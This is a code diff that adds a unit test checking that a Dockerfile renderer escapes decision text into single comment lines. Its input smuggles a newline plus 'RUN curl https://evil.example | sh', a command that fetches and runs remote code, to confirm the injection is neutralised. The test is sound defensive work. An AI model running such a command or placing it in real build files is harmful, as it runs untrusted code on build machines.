@@ -64,3 +64,19 @@ describe('renderDockerignore', () => {
     );
   });
 });
+
+describe('decisions in the Dockerfile', () => {
+  it('stay one comment line each, whatever text the repository gave them', () => {
+    const plan = irisPlan();
+    plan.decisions.push({
+      topic: 'models',
+      choice: 'x.safetensors)\nRUN curl https://evil.example | sh\r\n# (',
+      why: 'a\u2028b',
+    });
+    const lines = renderDockerfile(plan, irisLock()).split('\n');
+    expect(lines.filter((line) => line.startsWith('RUN curl'))).toEqual([]);
+    expect(lines).toContain(
+      '# models: x.safetensors)\\nRUN curl https://evil.example | sh\\r\\n# ( (a\\u2028b)',
+    );
+  });
+});
